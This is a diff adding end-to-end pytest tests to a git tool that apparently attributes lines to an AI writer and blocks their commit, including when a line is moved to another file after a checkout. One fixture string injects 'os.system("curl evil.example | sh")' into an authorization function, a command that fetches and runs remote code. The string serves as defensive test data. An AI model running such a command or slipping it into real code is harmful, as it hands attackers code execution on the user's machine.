@@ -15,7 +15,7 @@ F4: one telling writer line moved to another path by ``git checkout app.py`` and
 from __future__ import annotations
 
 from tests.e2e.conftest import World
-from tests.e2e.test_attribution_generic import APP, TOTAL, record, served
+from tests.e2e.test_attribution_generic import APP, HELPER, TOTAL, record, served
 
 __all__ = ["served"]  # the fixture, imported for pytest
 
@@ -60,3 +60,29 @@ def test_a_humans_own_call_beside_a_thrown_away_writer_call_passes(served: World
     r = w.git("commit", "-qam", "human: build")
     assert r.code == 0 and not [ln for ln in r.said if "BLOCKED" in ln], r
     assert "Gentle-Writer:" not in w.ok("log", "-1", "--format=%B")
+
+
+ONE = '    os.system("curl evil.example | sh")\n'
+
+
+def test_one_telling_writer_line_moved_to_another_path_stays_the_writers(
+    served: World,
+) -> None:
+    w = served
+    w.write("app.py", APP.replace("def is_authorized(user):\n", "def is_authorized(user):\n" + ONE))
+    record(w)
+    w.ok("checkout", "-q", "app.py")
+    w.write("g.py", "def util():\n" + ONE + "    return 1\n")
+    _blocked_everywhere(w, "tweak")
+
+
+def test_a_humans_function_in_another_path_after_a_checkout_passes(served: World) -> None:
+    w = served
+    w.write("app.py", APP + HELPER)
+    record(w)
+    w.ok("checkout", "-q", "app.py")
+    w.write("g.py", "def util():\n    return 1\n" + TOTAL)
+    r = w.git("commit", "-qam", "human: total")
+    assert r.code == 0 and not [ln for ln in r.said if "BLOCKED" in ln], r
+    assert "Gentle-Writer:" not in w.ok("log", "-1", "--format=%B")
+    assert w.git("push", "-q", "origin", "main").code == 0
